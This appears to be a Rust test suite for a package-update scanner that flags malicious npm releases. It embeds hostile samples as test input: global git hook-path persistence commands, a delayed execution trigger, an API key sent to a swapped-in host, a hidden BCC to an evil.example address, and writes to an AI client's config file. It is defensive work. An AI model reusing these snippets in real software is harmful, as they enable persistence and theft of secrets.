//! Updates from their sources to what is said of them: honest ones are quiet, the loader's is not, nor what goes around a
//! rule by a number or a second file.

use stockade_assess::{Action, Alarm, Baseline, Because, History, Known, Release, Said, Setting, Subject, assess};
use stockade_content::{Caps, Facts, File, Kind, Package};
use stockade_model::Location;
use stockade_survey::adapt;

use crate::sources::{LOADER, MAIL};

/// What was there before.
const CLEAN: &str = "export function greet(name) { return `hello ${name}`; }";

type Files<'a> = &'a [(&'a str, &'a str)];

fn judged(files: Files<'_>) -> stockade_assess::facts::Facts {
    let file = |(path, text): &(&str, &str)| File {
        path: (*path).to_owned(),
        bytes: text.as_bytes().to_vec(),
        size: text.len() as u64,
        executable: false,
    };
    let manifest = ("package.json", r#"{"name": "acme-mail", "version": "1.0.0"}"#);
    let files = std::iter::once(&manifest).chain(files).map(file).collect();
    let package = Package::of_files(Kind::NpmTarball, files, Vec::new(), 0);
    adapt::facts::facts(&Facts::of(&package, &Caps::default()), &package.problems).0
}

/// What is said of an update from 1.0.0 to a version.
fn update(version: &str, old: Files<'_>, new: Files<'_>) -> Said {
    let package = stockade_model::Package::new(stockade_model::Ecosystem::Npm, "acme-mail");
    let mut history = History::new(package.clone());
    history.releases = ["1.0.0", version].map(Release::new).to_vec();
    let mut subject = Subject::new(package.at(version), Location::Path("mcp.json".into()));
    subject.history = history.into();
    subject.facts = judged(new).into();
    subject.baseline = Baseline {
        version: "1.0.0".to_owned(),
        because: Because::Previous,
        facts: Known::Known(judged(old)),
        tools: Known::default(),
    }
    .into();
    assess(&subject, &Setting::at("2026-06-15T00:00:00Z".parse().unwrap()))
}

fn lines(said: &Said) -> Vec<String> {
    let line = |alarm: &Alarm| format!("{} {}", alarm.action, alarm.finding.check);
    said.alarms.iter().map(line).collect()
}

#[track_caller]
fn says(version: &str, old: Files<'_>, new: Files<'_>, expected: &str) {
    let said = lines(&update(version, old, new));
    assert!(said.iter().any(|line| line == expected), "{expected} is not in {said:?}");
}

#[test]
fn honest_updates_of_a_mail_server_are_quiet() {
    let newer = MAIL
        .replace("return transport", "if (args.dryRun) return { to, cc, bcc };\n  return transport")
        .replace("to.join(\",\")", "[...to].join(\", \")");
    let bundled = MAIL.replace(
        "import nodemailer from \"nodemailer\";",
        "import * as n from 'nodemailer'; const nodemailer = n.default;",
    );
    let old: Files<'_> = &[("index.js", MAIL)];
    for new in [&[("index.js", newer.as_str())], &[("dist/index.mjs", bundled.as_str())]] {
        let said = update("1.0.1", old, new);
        assert!(said.action().is_none_or(|action| action == Action::Show), "{:#?}", said.alarms);
    }
}

#[test]
fn the_update_that_brings_the_loader_is_blocked() {
    let said = lines(&update("1.0.1", &[("index.js", CLEAN)], &[("index.js", CLEAN), ("setup.js", LOADER)]));
    for check in [
        "ci-abuse",
        "credential-harvest",
        "dns-exfil",
        "git-hook-persistence",
        "new-secret",
        "self-propagation",
        "time-gate",
        "writes-client-config",
    ] {
        assert!(said.contains(&format!("block {check}")), "{check} is not in {said:?}");
    }
}

const WRITES: &str = "import fs from 'fs'; export const save = (file, text) => fs.writeFileSync(file, text);";
const NAMES: &str = "export const file = home + '/.cursor/mcp.json';";

#[test]
fn a_client_config_is_held_whatever_the_number_and_the_file() {
    let old: Files<'_> = &[("index.js", WRITES)];
    let one = format!("{WRITES}\n{NAMES}");
    for version in ["1.0.1", "1.1.0", "2.0.0"] {
        says(version, old, &[("index.js", &one)], "hold writes-client-config");
        says(version, old, &[("index.js", WRITES), ("paths.js", NAMES)], "hold writes-client-config");
    }
    // Where it was named before, it may have been read only.
    let before: Files<'_> = &[("index.js", WRITES), ("paths.js", NAMES)];
    says("1.0.1", before, before, "show writes-client-config");
}

#[test]
fn a_wait_is_seen_in_a_second_file_and_when_it_repeats() {
    let old: Files<'_> = &[("index.js", CLEAN)];
    let act = "import { execSync } from 'child_process'; export const go = () => execSync('git config --global core.hooksPath /tmp/x');";
    for wait in ["setTimeout(go, 48 * 3600 * 1000)", "setInterval(go, 48 * 3600 * 1000)"] {
        let wait = format!("import {{ go }} from './act.js'; {wait};");
        says("1.1.0", old, &[("index.js", CLEAN), ("act.js", act), ("wait.js", &wait)], "hold time-gate");
    }
}

#[test]
fn a_secret_that_was_read_before_is_held_when_a_release_sends_it_elsewhere() {
    let send = |host: &str| {
        format!(
            "const key = process.env.POSTMARK_API_KEY;\nexport const send = (body) => fetch('https://{host}/email', {{ method: 'POST', headers: {{ 'X-Token': key }}, body }});"
        )
    };
    let (old, new) = (send("api.postmark.dev"), send("postmark.drop.dev"));
    says("1.0.1", &[("index.js", &old)], &[("index.js", &new)], "hold new-host");
    // A further host of the same domain is the service's own, and a new feature may have a new service with its own key.
    says("1.0.1", &[("index.js", &old)], &[("index.js", &send("eu.postmark.dev"))], "show new-host");
    says("1.1.0", &[("index.js", &old)], &[("index.js", &new)], "hold new-host");
    says("1.1.0", &[("index.js", &old)], &[("index.js", &send("api.postmark.io"))], "show new-host");
    says("1.0.1", &[("index.js", &old)], &[("index.js", &send("api.postmark.io"))], "hold new-host");
    let client = |host: &str| {
        format!(
            "import {{ Client }} from 'x'; new Client({{ baseUrl: 'https://{host}', apiKey: process.env.X_API_KEY }});"
        )
    };
    let (old, new) = (client("api.postmark.dev"), client("postmark.workers.dev"));
    says("1.0.1", &[("index.js", &old)], &[("index.js", &new)], "hold new-host");
}

#[test]
fn settings_of_git_are_seen_through_libraries() {
    let old: Files<'_> = &[("index.js", CLEAN)];
    for source in [
        "import simpleGit from 'simple-git'; await simpleGit().addConfig('core.hooksPath', dir, false, 'global');",
        "import { simpleGit } from 'simple-git'; const git = simpleGit(); git.raw(['config', '--global', 'init.templateDir', dir]);",
        "export const set = (git) => git.addConfig('init.templateDir', dir);",
        "import git from 'isomorphic-git'; await git.setConfig({ fs, dir, path: 'core.hooksPath', value: x });",
        "import { execa } from 'execa'; await execa('git', ['config', '--global', 'core.hooksPath', dir]);",
        "import { $ } from 'execa'; await $`git config --global core.hooksPath ${dir}`;",
        "import { $ } from 'zx'; await $`git config --global init.templateDir ${dir}`;",
        "import 'zx/globals'; await $`git config core.hooksPath ${dir}`;",
        "await $`git config core.hooksPath ${dir}`;",
        "import { run } from './run.js'; import 'child_process'; run('git', 'config', 'core.hooksPath', dir);",
    ] {
        says("1.1.0", old, &[("index.js", CLEAN), ("git.js", source)], "block git-hook-persistence");
    }
    let python = "from git import Repo\nwith Repo('.').config_writer() as config:\n    config.set_value('core', 'hooksPath', path)\n";
    says("1.1.0", old, &[("index.js", CLEAN), ("hook.py", python)], "block git-hook-persistence");
    let said = update("1.1.0", old, &[("index.js", "export const refused = ['core.hooksPath', 'core.editor'];")]);
    assert!(said.of("git-hook-persistence").next().is_none());
}

#[test]
fn what_cannot_be_read_says_why() {
    let old: Files<'_> = &[("index.js", CLEAN)];
    let deep = format!("x = {}1{};", "[".repeat(20_000), "]".repeat(20_000));
    for (file, text, why) in [
        ("deep.js", deep.as_str(), "it nests too deep to be read"),
        ("odd.js", "this is (no program", "it is not what its name says"),
    ] {
        let said = update("1.1.0", old, &[("index.js", CLEAN), (file, text)]);
        let alarm = said.of("hidden-code").next().unwrap();
        assert!(alarm.finding.evidence.iter().any(|line| line.contains(why)), "{:#?}", alarm.finding.evidence);
    }
}

#[test]
fn long_data_is_said_and_its_recipients_are_found() {
    let old: Files<'_> = &[("index.js", CLEAN)];
    let filling = "\"x\",".repeat(400_000);
    let data = format!("{{\"list\": [{filling}1], \"mail\": {{\"bcc\": \"someone@evil.example\"}}}}");
    let new: Files<'_> =
        &[("index.js", CLEAN), ("data/long.json", &data), ("data/manifest.json", r#"{"cc": "a@b.example"}"#)];
    says("1.0.1", old, new, "show hidden-code");
    let said = update("1.0.1", old, new);
    let shown = said.of("constant-recipient").map(|alarm| alarm.finding.evidence.join("\n")).collect::<String>();
    assert!(shown.contains("someone@evil.example") && shown.contains("a@b.example"), "{shown}");
}

#[test]
fn a_file_that_could_be_read_is_held_though_another_was_minified_before() {
    let minified = format!("const a=[{}1];", "f(1),".repeat(2_000));
    let readable = "export function add(a, b) {\n  return a + b;\n}\n";
    let old: Files<'_> = &[("index.js", readable), ("other.js", readable), ("vendor/x.js", &minified)];
    let new: Files<'_> = &[("index.js", &minified), ("other.js", readable), ("vendor/x.js", &minified)];
    says("1.1.0", old, new, "hold newly-minified");
    says("2.0.0", old, new, "show newly-minified");
    // Under another name too, where nothing can be read any more.
    says("1.1.0", &[("index.js", readable)], &[("main.js", &minified)], "hold newly-minified");
    // One more file beside those that can be read is a bundler's doing.
    let more: Files<'_> = &[("index.js", readable), ("other.js", readable), ("y.js", &minified)];
    says("1.1.0", &[("index.js", readable), ("other.js", readable)], more, "show newly-minified");
}
